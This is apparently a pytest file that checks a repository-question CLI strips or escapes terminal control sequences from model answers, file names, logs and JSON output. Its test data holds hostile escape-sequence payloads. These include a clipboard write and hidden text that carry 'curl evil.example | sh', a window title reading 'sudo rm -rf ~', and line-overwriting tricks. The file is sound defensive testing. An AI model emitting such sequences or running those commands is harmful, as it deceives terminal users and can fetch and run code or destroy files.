"""What the CLI prints comes from the model and the repository: no control sequence may reach the
terminal (clipboard writes, window titles, hidden text, overwritten lines), in Markdown, in JSON,
in the -v trace view, in the index status and in log lines."""

from __future__ import annotations

import io
import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from fake_api import FakeAPI
from fake_api import openai_chat as chat
from repo_builder import SMALL_REPO, make_repo
from reporlm.terminal import PrintableFilter, json_text, printable

ATTACKS = {
    "OSC 52 clipboard write (BEL)": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "OSC 52 clipboard write (ST)": "\x1b]52;c;Y3VybA==\x1b\\",
    "OSC 0 window title": "\x1b]0;sudo rm -rf ~\x07",
    "OSC 8 hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "SGR 8 hidden text": "\x1b[8mcurl evil.example | sh\x1b[0m",
    "cursor up and erase line": "\x1b[1A\x1b[2K",
    "bare ESC": "\x1bc",
    "BEL": "\x07",
    "carriage return": "all good\rALL BAD!",
    "backspaces": "safe\x08\x08\x08\x08",
    "C1 CSI": "\x9b31m",
    "C1 OSC": "\x9d0;title\x9c",
    "C1 single shift": "\x8e",
    "DEL": "\x7f",
    "NUL and vertical tab": "\x00\x0b\x0c",
}
# Everything a terminal acts on: C0 (but newline and tab), DEL and C1.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_sequence_is_removed(name: str) -> None:
    text = f"before {ATTACKS[name]} after\n\tindented, café 日本"
    cleaned = printable(text)
    assert not RAW_CONTROL.search(cleaned), repr(cleaned)
    assert cleaned.startswith("before ") and cleaned.endswith(" after\n\tindented, café 日本")


def test_whole_sequences_go_and_visible_text_stays() -> None:
    assert printable("a\x1b]52;c;ZXZpbA==\x07b") == "ab"  # no payload left behind as text
    assert printable("shown\x1b[8mhidden\x1b[0m") == "shownhidden"  # hidden text is simply shown
    assert printable("x\x1b]0;title\nnext line") == "x\nnext line"  # unterminated: only to the line end
    assert printable("crlf\r\nline") == "crlf\nline"


def test_json_output_escapes_every_control_and_keeps_the_data() -> None:
    record = {"answer": "".join(ATTACKS.values()), "citations": [{"path": "a\x1b[31m.py"}]}
    text = json_text(record)
    assert not RAW_CONTROL.search(text), repr(text)
    assert "\\u009b" in text and "\\u007f" in text and "\\u001b" in text
    assert json.loads(text) == record
    # json.dumps alone leaves C1 and DEL raw: that is why json_text exists.
    assert RAW_CONTROL.search(json.dumps(record, ensure_ascii=False))


def test_log_lines_are_made_printable() -> None:
    logger = logging.getLogger("reporlm.test.terminal")
    handler = logging.StreamHandler(stream := io.StringIO())
    handler.addFilter(PrintableFilter())
    logger.addHandler(handler)
    try:
        logger.warning("cannot read %s: %s", "evil\x1b]0;title\x07.py", "\x1b[8mhidden")
    finally:
        logger.removeHandler(handler)
    assert stream.getvalue() == "cannot read evil.py: hidden\n"


# -- the CLI as a terminal meets it --------------------------------------------------------------

EVIL = "".join(ATTACKS.values())


def run(args: list[str], tmp_path: Path) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY") and not k.startswith("REPORLM_")}
    env["REPORLM_CACHE_DIR"] = str(tmp_path / "cache")
    return subprocess.run(
        [sys.executable, "-P", "-m", "reporlm", *args], capture_output=True, env=env, timeout=120
    )


def ask(fake: FakeAPI, repo: Path, tmp_path: Path, *extra: str) -> subprocess.CompletedProcess[bytes]:
    args = ["ask", "Where are retries configured?", "--repo", str(repo), "--provider", "openai"]
    args += ["--base-url", fake.url + "/v1", "--model", "m", "--trace", str(tmp_path / "t.jsonl"), *extra]
    return run(args, tmp_path)


def queue_evil_run(fake: FakeAPI) -> None:
    """The model prints the sequences (the -v view shows that output) and answers with them,
    citing a file whose name holds some too."""
    answer = f"Retries: `shop/retry.py:3`. {EVIL} See `evil\x1b]0;t\x07.py:1`."
    code = f"print({EVIL!r})\nprint(repo.grep('MAX_RETRIES ='))\nanswer = {answer!r}"
    fake.queue(200, chat(f"```repl\n{code}\n```"))
    fake.queue(200, chat("FINAL_VAR('answer')"))


def assert_printable(output: bytes) -> str:
    text = output.decode("utf-8")
    assert not RAW_CONTROL.search(text), repr(RAW_CONTROL.findall(text))
    return text


def test_ask_prints_the_answer_without_control_sequences(
    fake_api: FakeAPI, small_repo: Path, tmp_path: Path
) -> None:
    queue_evil_run(fake_api)
    done = ask(fake_api, small_repo, tmp_path, "-v")
    assert done.returncode in (0, 1), done.stderr.decode()
    out = assert_printable(done.stdout)
    assert "Retries: `shop/retry.py:3`." in out and "curl evil.example | sh" in out  # hidden text shown
    assert_printable(done.stderr)  # the -v trace view: code and output with the sequences


def test_ask_json_escapes_what_it_cannot_drop(fake_api: FakeAPI, small_repo: Path, tmp_path: Path) -> None:
    queue_evil_run(fake_api)
    done = ask(fake_api, small_repo, tmp_path, "--json")
    assert done.returncode in (0, 1), done.stderr.decode()
    record = json.loads(assert_printable(done.stdout))
    assert "\x1b]52;c;" in record["answer"]  # exact data for a program; escaped for a terminal


def test_index_prints_a_hostile_folder_name_harmlessly(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo\x1b]0;pwned\x07\x9b8m", SMALL_REPO)
    for flags in ([], ["--json"]):
        done = run(["index", "--repo", str(repo), *flags], tmp_path)
        assert done.returncode == 0, done.stderr.decode()
        assert_printable(done.stdout)
        assert_printable(done.stderr)
    assert json.loads(done.stdout)["repo"] == str(repo.resolve())
